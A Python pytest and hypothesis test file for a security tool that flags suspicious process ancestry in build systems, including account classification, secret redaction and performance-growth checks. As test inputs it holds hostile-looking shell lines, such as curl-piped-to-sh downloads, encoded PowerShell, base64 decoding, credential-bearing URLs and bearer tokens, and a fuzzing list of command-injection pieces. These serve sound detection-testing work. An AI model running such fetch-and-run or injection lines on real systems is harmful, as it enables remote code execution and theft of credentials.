"""Who started a build: every signal fires and nearly fires, and no text is too odd."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from t1612core.facts.lineage import lineage
from t1612core.facts.starter import FIELDS
from t1612core.knowledge.accounts import ACCOUNTS
from t1612core.knowledge.lineage import LINEAGE
from t1612core.knowledge.signals.lineage import SIGNALS
from t1612core.model import Fact
from t1612core.shell.limits import LIMIT
from t1612core.shell.starters import Piece, piece_of
from t1612core.text.ancestry import name_span, names_of
from t1612core.text.programs import program_name
from t1612core.text.redact import REDACTED
from t1612core.text.remembered import MOST as REMEMBERED

from .network.test_growth import LIMIT as MOST
from .network.test_growth import MIB, growth

VECTORS: list[dict[str, Any]] = json.loads(
    Path(__file__).with_name("vectors").joinpath("lineage.json").read_text("utf-8")
)
NAMES = sorted({signal.id.partition(".")[2] for signal in SIGNALS})
OF_LENGTH = "oversized_lineage"  # needs a text of its own size: ``test_bounded_lines`` has it
PIECES = (
    "sh -c;;bash;;powershell -enc QUJDREVGR0g=;;curl;;wget;;| bash;;| sh;;base64 -d;;$(;;<(;;`;;'"
    ';;";;\\;;&&;;/tmp/x;;python3 -c;;cmd /c;;x.bat;;x.ps1;;eval;;iex;;-e;;--password '
    ";;http://a:b@192.0.2.1/;;\0; "
)
WORDS = st.sampled_from(PIECES.split(";;"))
LINES = st.one_of(st.text(), st.lists(WORDS, max_size=12).map(" ".join))
STARTERS = (
    "bash|cmd.exe|powershell.exe|python3|perl|java|nginx: x|tmux: server|busybox|sshd|make|/bin/"
)
PROGRAMS = st.one_of(st.text(), st.sampled_from(STARTERS.split("|")))
EVENTS = st.fixed_dictionaries(
    {},
    optional={
        "parent_name": PROGRAMS,
        "grandparent_name": PROGRAMS,
        "parent_line": LINES,
        "parent_folder": LINES,
        "account": st.one_of(st.none(), st.text(), st.sampled_from(["root", "www-data", "alice"])),
        "parent_account": st.one_of(st.none(), st.text()),
    },
)


def told(kind: str, values: dict[str, Any]) -> list[str]:
    return sorted(fact.signal for fact in lineage(kind, values))


def points_at(fact: Fact, values: dict[str, Any]) -> bool:
    return fact.span is None or values[fact.field][slice(*fact.span)] == fact.text


@pytest.mark.parametrize("vector", VECTORS, ids=lambda vector: vector["id"])
def test_vector(vector: dict[str, Any]) -> None:
    found = told("process", vector["values"])

    assert sorted(f"process.{name}" for name in vector["expected"]) == found
    assert vector.get("nearly") not in vector["expected"]


@pytest.mark.parametrize("vector", VECTORS, ids=lambda vector: vector["id"])
def test_a_file_event_tells_the_same_by_the_account_that_it_has(vector: dict[str, Any]) -> None:
    values = dict(vector["values"])
    account = values.pop("account", "")
    values.setdefault("parent_account", account)

    assert sorted(f"file.{name}" for name in vector["expected"]) == told("file", values)


@pytest.mark.parametrize("name", [name for name in NAMES if name != OF_LENGTH])
def test_every_signal_has_a_vector_that_fires_and_one_that_nearly_does(name: str) -> None:
    assert any(name in vector["expected"] for vector in VECTORS)
    assert any(name == vector.get("nearly") for vector in VECTORS)


def test_ids_of_vectors_are_unique() -> None:
    ids = [vector["id"] for vector in VECTORS]

    assert len(ids) == len(set(ids))


@given(EVENTS, st.sampled_from(["process", "file"]))
@example({"parent_name": "docker-bench-security/"}, "file")
def test_any_text_is_taken_and_facts_point_at_it(values: dict[str, Any], kind: str) -> None:
    """Each signal once, each of the catalog, in a field that is read and says what is shown."""
    known = {signal.id: {signal.reads, *signal.also_reads} for signal in SIGNALS}
    found = list(lineage(kind, values))

    assert len(found) == len({fact.signal for fact in found})
    for fact in found:
        assert fact.field in known[fact.signal] & set(FIELDS[kind])
        assert points_at(fact, values)


@pytest.mark.parametrize("vector", VECTORS, ids=lambda vector: vector["id"])
def test_a_vectors_facts_say_what_stands_there(vector: dict[str, Any]) -> None:
    for fact in lineage("process", vector["values"]):
        assert fact.text
        assert points_at(fact, vector["values"])


@pytest.mark.parametrize(
    ("line", "text", "span"),
    [
        ("bash '/tmp/a b.sh'", "/tmp/a b.sh", (6, 17)),
        ("bash /tmp/a\\ b.sh", "/tmp/a b.sh", None),
        ("sh -c curl http://192.0.2.1/ | sh", "curl http://192.0.2.1/ | sh", (6, 33)),
        (
            "sh -c curl http://a:pass@192.0.2.1/ | sh",
            f"curl http://a:{REDACTED}@192.0.2.1/ | sh",
            None,
        ),
    ],
)
def test_what_is_shown(line: str, text: str, span: tuple[int, int] | None) -> None:
    (fact,) = lineage("process", {"parent_name": "bash", "parent_line": line})

    assert (text, span) == (fact.text, fact.span)


def test_no_secret_is_shown() -> None:
    """Not even when the piece stands inside of it."""
    for line in (
        "sh -c 'curl http://u:hush@192.0.2.1/x | sh'",
        "bash -c 'curl -H \"Authorization: Bearer hush\" http://192.0.2.1 | sh'",
        "bash -c 'curl --password \"hush\" http://192.0.2.1 | sh'",
    ):
        found = list(lineage("process", {"parent_name": "bash", "parent_line": line}))
        assert found
        assert not [fact for fact in found if "hush" in fact.text]


def test_a_piece_of_a_secret_is_shown_by_a_word() -> None:
    """Only the line as a whole says that it is one."""
    line = "x --password 'python3 -c'"
    at = line.index("python3")

    assert Piece("x", (0, 1)) == piece_of(line, (at, at + 10), (0, 1))
    assert Piece("python3 -c", (0, 10)) == piece_of("python3 -c a", (0, 10), (0, 7))


def test_a_long_line_is_read_to_the_limit() -> None:
    line = "bash -" + "x" * LIMIT + " /tmp/x"

    assert ["process.oversized_lineage"] == told(
        "process", {"parent_name": "bash", "parent_line": line}
    )


def test_a_program_further_on_is_not_read() -> None:
    line = "java -" + "x" * LIMIT + " org.apache.catalina.startup.Bootstrap"

    assert ["process.oversized_lineage"] == told(
        "process", {"parent_name": "java", "parent_line": line}
    )


def test_the_nearer_ancestor_is_shown_by_its_own_name() -> None:
    values = {"parent_name": "/usr/sbin/nginx", "grandparent_name": "apache2"}
    (fact,) = lineage("process", values)

    assert Fact("process.web_server_lineage", "parent_name", "nginx", (10, 15)) == fact


def test_the_script_goes_before_the_program_and_the_account_before_who_changed_to_it() -> None:
    values = {"parent_name": "sh", "parent_line": "sh /tmp/x", "parent_folder": "/tmp/sh"}
    values |= {"account": "nginx", "parent_account": "mysql"}

    assert ["parent_line", "account"] == [fact.field for fact in lineage("process", values)]


def test_long_texts_are_shown_in_part() -> None:
    values = {
        "parent_name": "packer-plugin-" + "x" * 1000,
        "parent_line": "x /tmp/" + "y" * 1000,
        "parent_folder": "/tmp/" + "z" * 1000,
        "account": "www-data" + " " * 1000,
    }
    found = list(lineage("process", values))

    assert found
    assert all(len(fact.text) <= 200 and points_at(fact, values) for fact in found)


@pytest.mark.parametrize(
    ("text", "names", "name"),
    [
        ("/usr/sbin/php-fpm8.2", ("php-fpm8.2", "php-fpm"), "php-fpm8.2"),
        ("C:\\x\\Code.exe", ("code",), "Code.exe"),
        ("nginx: master /usr/sbin/nginx", ("nginx",), "nginx"),
        ("tmux: server", ("tmux: server", "tmux"), "tmux"),
        ("7.1", ("7.1",), "7.1"),
        ("", (), ""),
    ],
)
def test_names(text: str, names: tuple[str, ...], name: str) -> None:
    assert names == names_of(text)
    assert name == text[slice(*name_span(text))]


@pytest.mark.parametrize(
    ("account", "kind"),
    [
        ("", "absent"),
        (" \t", "absent"),
        ("CORP\\", "absent"),
        ("alice", "ordinary"),
        ("CORP\\Alice", "ordinary"),
        ("NT AUTHORITY\\NETWORK SERVICE", "automation"),
        ("NT-AUTORITÄT\\Netzwerkdienst", "automation"),
        ("AUTORITE NT\\SERVICE LOCAL", "automation"),
        ("NT AUTHORITY\\СИСТЕМА", "shared"),
        ("Zarządzanie NT\\System", "shared"),
        ("CORP/alice", "ordinary"),
        ("CORP\\10023456", "ordinary"),
        ("alice@corp.example", "ordinary"),
        ("0", "shared"),
        ("33", "service"),
        ("7", "service"),
        ("100", "automation"),
        ("_apt", "service"),
        ("_gitlab-runner", "automation"),
        ("Debian-snmp", "service"),
        ("systemd-resolve", "service"),
        ("backup", "shared"),
        ("1001", "absent"),
        ("65534", "service"),
        ("S-1-5-18", "shared"),
        ("S-1-5-20", "automation"),
        ("S-1-5-82-3006700770", "service"),
        ("S-1-5-21-1-2-3-500", "shared"),
        ("S-1-5-21-1-2-3-1104", "ordinary"),
        ("IIS APPPOOL\\alice", "service"),
        ("DefaultAppPool", "service"),
        ("shop-sql-svc", "automation"),
        ("sql-svc", "service"),
        ("svc-prod-web-01", "service"),
        ("sa_build", "automation"),
        ("jenkins", "automation"),
        ("HOST$", "automation"),
        ("ROOT", "shared"),
        ("ec2-user", "shared"),
        ("a" * 10_000, "ordinary"),
    ],
)
def test_accounts(account: str, kind: str) -> None:
    assert kind == ACCOUNTS.kind(account)


@pytest.mark.parametrize(
    ("name", "line", "signals"),
    [
        # A known builder vouches for what it builds, so what stands above it may count as well.
        ("dokku", "bash /usr/bin/dokku git-build shop", ["ci_lineage", "platform_lineage"]),
        ("bash", "bash build.sh", []),
    ],
)
def test_root_is_excused_by_who_stands_above_where_nothing_is_odd_or_a_builder_vouches(
    name: str, line: str, signals: list[str]
) -> None:
    values = {
        "parent_name": name,
        "parent_line": line,
        "grandparent_name": "gitlab-runner",
        "parent_account": "root",
    }
    found = [fact.signal for fact in lineage("process", values, is_odd=True)]
    assert sorted(f"process.{each}" for each in signals) == sorted(found)
    assert "process.ci_lineage" in told("process", values)


def test_tables_are_spelled_as_they_are_looked_up() -> None:
    programs = {program for row in LINEAGE.rows for program in row.programs}
    programs |= LINEAGE.interpreters.keys()

    assert {program.strip("*") for program in programs} == {
        program_name(f"{program.strip('*')}x")[:-1] for program in programs
    }
    assert {row.role for row in LINEAGE.rows} <= set(NAMES)
    assert all(row.source and row.programs for row in LINEAGE.rows)
    lists = (ACCOUNTS.service, ACCOUNTS.automation, ACCOUNTS.shared)
    assert len(frozenset().union(*lists)) == sum(map(len, lists))


SEEDS = (
    "sh -c |sh -c $(echo |curl |curl x ;|base64 -d |base64 -d;|exec |iex |powershell -enc |-e A"
    "|'|\"|\\|/|&|&&|&&&|/tmp/|.x/|x.bat |x.ps1 |eval `echo |sudo |sudo -a |--password "
    "|@tmp/durable-|jenkins1|-c |-m flask run|x.jar|/html/|/var/www/html/|_actions/a/b/"
    "|{ ; }; __code|-c source /x/.claude/shell-snapshots/snapshot-a|-c snap=$(command cat <&3"
    "|1-2-a-dispatch-script.tmp|/mlflow server|/ansible-tmp-1-2-3/AnsiballZ_a"
)


GROWING = [
    *((name, "parent_line") for name in ("bash", "cmd.exe", "powershell.exe", "python3", "java")),
    ("node", "parent_line"),
    *(("bash", field) for field in FIELDS["process"] if field != "parent_line"),
]


@pytest.mark.growth
@pytest.mark.parametrize("seed", [*SEEDS.split("|"), "|", "| sudo ", "| sh "])
@pytest.mark.parametrize(("name", "field"), GROWING)
def test_time_grows_with_the_text(name: str, field: str, seed: str) -> None:
    def read(text: str) -> object:
        above = "node" if name == "bash" else "systemd"  # what shells' and servers' rows ask for
        return list(
            lineage("process", {"grandparent_name": above, "parent_name": name, field: text})
        )

    for limit in (LIMIT, MIB):
        assert growth(read, limit, seed) <= MOST


def test_of_many_starters_as_of_one_with_a_long_line_nothing_stays_in_memory() -> None:
    values = {"parent_name": "sh", "parent_line": "sh -c 'curl x | sh'"}
    first = lineage("process", values)
    assert lineage("process", dict(values)) is first
    assert lineage("process", {**values, "parent_line": f"{values['parent_line']} "}) is not first
    for number in range(REMEMBERED):
        lineage("process", {"parent_name": f"{number}"})
    anew = lineage("process", values)
    assert anew == first
    assert anew is not first
    long = {"parent_name": "sh", "parent_line": f"sh -c 'curl x | sh' {'x' * 512}"}
    assert lineage("process", long) is not lineage("process", long)
